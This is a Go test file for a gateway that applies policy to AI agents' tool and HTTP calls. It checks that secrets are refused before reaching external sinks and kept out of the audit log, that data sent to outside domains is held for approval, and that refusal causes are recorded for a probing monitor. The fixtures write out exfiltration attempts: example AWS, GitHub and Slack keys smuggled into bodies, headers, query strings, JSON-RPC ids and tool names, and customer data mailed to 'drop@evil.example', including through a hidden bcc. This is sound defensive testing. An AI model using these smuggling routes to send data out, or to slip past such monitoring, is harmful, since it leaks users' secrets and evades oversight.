package gateway_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/mandatehq/mandate"
	"github.com/mandatehq/mandate/gateway"
	"github.com/mandatehq/mandate/policy"
	"github.com/modelcontextprotocol/go-sdk/mcp"
)

// defaultSetWith is a policy engine on the default set plus extra, a
// file of the operator's own.
func defaultSetWith(t *testing.T, extra string) *policy.Engine {
	t.Helper()
	dir := t.TempDir()
	for name, b := range policy.DefaultPolicies() {
		os.WriteFile(filepath.Join(dir, name), b, 0o600)
	}
	os.WriteFile(filepath.Join(dir, "extra.cedar"), []byte(extra), 0o600)
	pol, err := policy.Open(policy.Config{Dir: dir, Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	return pol
}

// An HTTP route is an external sink unless its configuration says what
// it is: a secret anywhere the agent writes in a request (body, path,
// query, the headers forwarded) is refused by the default set before it
// is forwarded, whatever permit the operator added; a route labelled
// otherwise is the policy's to decide. The events carry the route's
// labels, for the monitor.
func TestHTTPRouteIsAnExternalSinkByDefault(t *testing.T) {
	e := newEnv(t)
	var seen struct {
		sync.Mutex
		n int
	}
	api := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		seen.Lock()
		seen.n++
		seen.Unlock()
		io.WriteString(w, "ok")
	}))
	defer api.Close()
	pol := defaultSetWith(t, `@id("apis")
permit (principal, action == Action::"HttpRequest", resource);`)
	g, err := gateway.New(gateway.Config{HTTPRoutes: []gateway.HTTPRoute{{Name: "hooks", URL: api.URL}, {Name: "vault", URL: api.URL, Labels: []string{"internal"}}},
		Issuer: iss, Keys: keySource{e.keys}, PublicURL: e.gw.URL, Policy: pol, Events: e.store, Tools: e.store, Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	e.gw.Config.Handler, e.g = g, g
	key := e.agent("poster", "http:hooks:*:/** http:vault:*:/**")
	tok := e.mint("poster", key, "http:hooks:*:/** http:vault:*:/**", time.Minute, false)
	do := func(method, route, path, body string, hdr map[string]string) (int, string) {
		t.Helper()
		req, _ := http.NewRequest(method, e.gw.URL+"/http/"+route+path, strings.NewReader(body))
		req.Header.Set("Authorization", "Bearer "+tok.AccessToken)
		for k, v := range hdr {
			req.Header.Set(k, v)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		return resp.StatusCode, string(b)
	}
	for name, r := range map[string]struct {
		method, path, body string
		hdr                map[string]string
	}{
		"body":          {"POST", "/in", `{"text":"AKIAIOSFODNN7EXAMPLE"}`, nil},
		"escaped body":  {"POST", "/in", `{"text":"\u0041KIAIOSFODNN7EXAMPLE"}`, nil},
		"form body":     {"POST", "/in", `text=AKIA%49OSFODNN7EXAMPLE`, map[string]string{"Content-Type": "application/x-www-form-urlencoded"}},
		"query":         {"GET", "/in?k=AKIA%49OSFODNN7EXAMPLE", "", nil},
		"path":          {"GET", "/in/AKIAIOSFODNN7EXAMPLE", "", nil},
		"header":        {"GET", "/in", "", map[string]string{"User-Agent": "ghp_" + strings.Repeat("a1B2", 9)}},
		"accept header": {"GET", "/in", "", map[string]string{"Accept-Language": "xoxb-1234567890-abcdefghij"}},
	} {
		if code, body := do(r.method, "hooks", r.path, r.body, r.hdr); code != http.StatusForbidden || !strings.Contains(body, "no-secret-to-external-sink") {
			t.Errorf("%s: %d %s", name, code, body)
		}
	}
	seen.Lock()
	if seen.n != 0 {
		t.Errorf("the upstream received %d requests with secrets", seen.n)
	}
	seen.Unlock()
	if code, body := do("POST", "hooks", "/in", `{"text":"hello"}`, nil); code != 200 {
		t.Errorf("a request without a secret: %d %s", code, body)
	}
	if code, body := do("PUT", "vault", "/keys/1", `{"key":"AKIAIOSFODNN7EXAMPLE"}`, nil); code != 200 {
		t.Errorf("a secret to a route labelled internal: %d %s", code, body)
	}
	for _, ev := range e.events(mandate.EventDecision) {
		if fmt.Sprint(ev.Event.Details["tool_labels"]) != "[external_send]" || ev.Event.Details["arg_secrets"] == nil {
			t.Errorf("decision event %s: %v", ev.Event.Resource, ev.Event.Details)
		}
	}
	calls := e.events(mandate.EventToolCall)
	if len(calls) != 2 || fmt.Sprint(calls[0].Event.Details["tool_labels"]) != "[external_send]" || fmt.Sprint(calls[1].Event.Details["tool_labels"]) != "[internal]" {
		t.Errorf("tool.call events %+v", calls)
	}
	// The refusals are on record, the secrets they refused are not (the
	// path's was the decision's resource).
	if held := e.logHolds("AKIAIOSFODNN7EXAMPLE"); len(held) > 0 {
		t.Errorf("the audit log holds the secret: %s", held)
	}
	_ = context.Background
}

// logHolds returns the events of the log whose JSON holds s.
func (e *env) logHolds(s string) []string {
	e.t.Helper()
	var out []string
	for _, ev := range e.events("") {
		if b, _ := json.Marshal(ev); strings.Contains(string(b), s) {
			out = append(out, string(b))
		}
	}
	return out
}

// A secret anywhere in what a call sends the server reaches no external
// sink: in the JSON-RPC id too, which the server reads as it reads the
// params. And the audit log holds no secret a refused request carried,
// in the tool's name, the method or the id.
func TestSecretOutsideTheParams(t *testing.T) {
	e := newEnvWith(t, &mcp.StreamableHTTPOptions{Stateless: true, JSONResponse: true})
	var sent atomic.Int64
	mcp.AddTool(e.srv, &mcp.Tool{Name: "send_email", Description: "Sends an e-mail."},
		func(context.Context, *mcp.CallToolRequest, struct{}) (*mcp.CallToolResult, any, error) {
			sent.Add(1)
			return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: "sent"}}}, nil, nil
		})
	e.regateway(func(c *gateway.Config) {
		c.Policy, c.Agents = defaultSetWith(t, ""), e.store
		c.Routes[0].ToolLabels = map[string][]string{"send_email": {"external_send"}}
	})
	key := e.agent("sender", "mcp:crm:*")
	tok := e.mint("sender", key, "mcp:crm:*", time.Minute, false)
	const secret = "AKIAIOSFODNN7EXAMPLE"
	for name, msg := range map[string]string{
		"id":           `{"jsonrpc":"2.0","id":"` + secret + `","method":"tools/call","params":{"name":"send_email","arguments":{}}}`,
		"escaped id":   `{"jsonrpc":"2.0","id":"\u0041KIAIOSFODNN7EXAMPLE","method":"tools/call","params":{"name":"send_email","arguments":{}}}`,
		"tool name":    `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"` + secret + `","arguments":{}}}`,
		"method":       `{"jsonrpc":"2.0","id":1,"method":"x/` + secret + `"}`,
		"resource uri": `{"jsonrpc":"2.0","id":1,"method":"resources/read","params":{"uri":"file:///` + secret + `"}}`,
	} {
		if _, body := e.post(tok.AccessToken, "", msg); !strings.Contains(body, `"error"`) {
			t.Errorf("%s: %s", name, body)
		}
	}
	if n := sent.Load(); n != 0 {
		t.Errorf("the external sink got %d calls carrying a secret", n)
	}
	if held := e.logHolds(secret); len(held) > 0 {
		t.Errorf("the audit log holds the secret: %s", held)
	}
	// An id is bounded, as it is recorded with the call.
	if resp, _ := e.post(tok.AccessToken, "", `{"jsonrpc":"2.0","id":"`+strings.Repeat("i", 300)+`","method":"ping"}`); resp.StatusCode != http.StatusBadRequest {
		t.Errorf("an id of 300 bytes: %d", resp.StatusCode)
	}
	if _, body := e.post(tok.AccessToken, "", `{"jsonrpc":"2.0","id":"`+strings.Repeat("i", 36)+`","method":"tools/call","params":{"name":"send_email","arguments":{}}}`); !strings.Contains(body, "sent") {
		t.Errorf("a call with a UUID-sized id: %s", body)
	}
}

// Internal mail is not exfiltration: with an internal rule on send_email,
// a task that read customer data sends to its own domain without a
// person's approval, the call labelled internal_send for policy and the
// monitor; a send that names any other destination stays external, and
// the default set holds it for a person.
func TestInternalSendIsNotASendOut(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	var sent []string
	var mu sync.Mutex
	mcp.AddTool(e.srv, &mcp.Tool{Name: "send_email", Description: "Sends an e-mail."},
		func(_ context.Context, _ *mcp.CallToolRequest, in struct {
			To   string `json:"to"`
			Bcc  string `json:"bcc,omitempty"`
			Body string `json:"body"`
		}) (*mcp.CallToolResult, any, error) {
			mu.Lock()
			sent = append(sent, in.To)
			mu.Unlock()
			return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: "sent"}}}, nil, nil
		})
	pol, err := policy.Open(policy.Config{Dir: t.TempDir(), Logger: slog.New(slog.DiscardHandler)}) // the default set
	if err != nil {
		t.Fatal(err)
	}
	e.regateway(func(c *gateway.Config) {
		c.Policy, c.Agents = pol, e.store
		c.Routes = []gateway.Route{{Name: "crm", URL: e.upstream.URL,
			ToolLabels: map[string][]string{"list_customers": {"read_only", "data:customer-data"}, "send_email": {"external_send"}},
			Internal:   map[string]gateway.InternalRule{"send_email": {Recipients: []string{"to"}, Domains: []string{"example.org"}, Content: []string{"body"}}}}}
	})
	key := e.agent("mailer", "mcp:crm:*")
	cs, err := e.connect(e.mint("mailer", key, "mcp:crm:*", time.Minute, false), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer cs.Close()
	if _, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "list_customers", Arguments: map[string]any{"name": "ada"}}); err != nil {
		t.Fatal(err)
	}
	send := func(args map[string]any) error {
		_, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "send_email", Arguments: args})
		return err
	}
	if err := send(map[string]any{"to": "bob@example.org", "body": "ada, grace"}); err != nil {
		t.Errorf("an internal send after customer data was read: %v", err)
	}
	for _, args := range []map[string]any{
		{"to": "drop@evil.example", "body": "ada, grace"},
		{"to": "bob@example.org, drop@evil.example", "body": "ada, grace"},
		{"to": "bob@example.org", "bcc": "drop@evil.example", "body": "ada, grace"},
	} {
		if err := send(args); err == nil || !strings.Contains(err.Error(), "send-after-customer-data-needs-approval") {
			t.Errorf("%v: %v, want it held for approval", args, err)
		}
	}
	mu.Lock()
	if strings.Join(sent, " ") != "bob@example.org" {
		t.Errorf("sent to %q", sent)
	}
	mu.Unlock()
	var labels []string
	for _, ev := range e.events(mandate.EventToolCall) {
		labels = append(labels, fmt.Sprint(ev.Event.Details["tool_labels"]))
	}
	if strings.Join(labels, " ") != "[read_only data:customer-data] [internal_send]" {
		t.Errorf("the calls' labels %v", labels)
	}
	for _, ev := range e.events(mandate.EventDecision) {
		if fmt.Sprint(ev.Event.Details["tool_labels"]) != "[external_send]" {
			t.Errorf("a held send's labels %v", ev.Event.Details["tool_labels"])
		}
	}
}

// A refusal's event says why, where it is the caller's own asking: out of
// its scope, or refused by policy for what it asks; a refusal that only
// the task's risk caused says so; others (a tool that changed, a method
// the gateway does not pass) give no such cause. The monitor counts only
// the first two as probing.
func TestRefusalCauses(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	risk := 0
	var mu sync.Mutex
	e.regateway(func(c *gateway.Config) {
		c.Policy, c.Agents = defaultSetWith(t, ""), e.store
		c.Routes[0].ToolLabels = map[string][]string{"delete_customer": {"destructive"}}
		c.Risk = func(string, string) int { mu.Lock(); defer mu.Unlock(); return risk }
	})
	key := e.agent("prober", "mcp:crm:*")
	root := e.mint("prober", key, "mcp:crm:list_customers mcp:crm:delete_customer", time.Minute, false)
	deep := e.delegate(e.delegate(root, newKey(t)), newKey(t)) // depth 3: read-only tools only
	cs, err := e.connect(root, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer cs.Close()
	ds, err := e.connect(deep, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer ds.Close()
	cs.CallTool(ctx, &mcp.CallToolParams{Name: "fail", Arguments: map[string]any{}})                       // scope
	ds.CallTool(ctx, &mcp.CallToolParams{Name: "delete_customer", Arguments: map[string]any{"name": "a"}}) // policy
	if _, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "no_such_tool"}); err == nil {                 // scope: not in the mandate
		t.Fatal("an unknown tool was called")
	}
	mu.Lock()
	risk = 95
	mu.Unlock()
	cs.CallTool(ctx, &mcp.CallToolParams{Name: "list_customers", Arguments: map[string]any{"name": "a"}}) // risk
	var got []string
	for _, ev := range e.events(mandate.EventDecision) {
		got = append(got, fmt.Sprint(ev.Event.Resource, " ", ev.Event.Details["cause"]))
	}
	want := "mcp:crm:fail scope|mcp:crm:delete_customer policy|mcp:crm:no_such_tool scope|mcp:crm:list_customers risk"
	if strings.Join(got, "|") != want {
		t.Errorf("causes\n%s\nwant\n%s", strings.Join(got, "|"), want)
	}
}

// A refusal that only what the task did before caused (a label a
// sibling's read gave it, a count its other agents ran up) is not the
// caller's own asking: its cause is "task", which the monitor does not
// count as probing, so that one agent of a task cannot have another
// quarantined by reading what policy then keeps the other from sending.
// What the call itself carries (a secret in its arguments) stays its own.
func TestRefusalCauseOfWhatTheTaskDid(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	mcp.AddTool(e.srv, &mcp.Tool{Name: "send_email", Description: "Sends an e-mail."},
		func(context.Context, *mcp.CallToolRequest, struct {
			Body string `json:"body"`
		}) (*mcp.CallToolResult, any, error) {
			return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: "sent"}}}, nil, nil
		})
	e.regateway(func(c *gateway.Config) {
		c.Policy, c.Agents = defaultSetWith(t, `
@id("no-send-after-confidential")
forbid (principal, action == Action::"CallTool", resource is Tool)
when { resource.labels.contains("external_send") && context.labels.contains("confidential") };`), e.store
		c.Routes[0].ToolLabels = map[string][]string{"list_customers": {"data:confidential"}, "send_email": {"external_send"}}
	})
	key := e.agent("orchestrator", "mcp:crm:*")
	root := e.mint("orchestrator", key, "mcp:crm:*", time.Minute, false)
	connect := func() *mcp.ClientSession {
		cs, err := e.connect(e.delegate(root, newKey(t)), nil)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { cs.Close() })
		return cs
	}
	reader, sender := connect(), connect()
	send := func(body string) {
		if _, err := sender.CallTool(ctx, &mcp.CallToolParams{Name: "send_email", Arguments: map[string]any{"body": body}}); err == nil {
			t.Fatalf("a send of %q was not refused", body)
		}
	}
	send("the key is AKIAIOSFODNN7EXAMPLE") // its own arguments: policy
	if _, err := reader.CallTool(ctx, &mcp.CallToolParams{Name: "list_customers", Arguments: map[string]any{"name": "a"}}); err != nil {
		t.Fatal(err)
	}
	send("hello") // refused only for what the sibling read: task
	var got []string
	for _, ev := range e.events(mandate.EventDecision) {
		got = append(got, fmt.Sprint(ev.Event.Details["policies"], " ", ev.Event.Details["cause"]))
	}
	want := "[no-secret-to-external-sink] policy|[no-send-after-confidential] task"
	if strings.Join(got, "|") != want {
		t.Errorf("causes\n%s\nwant\n%s", strings.Join(got, "|"), want)
	}
}
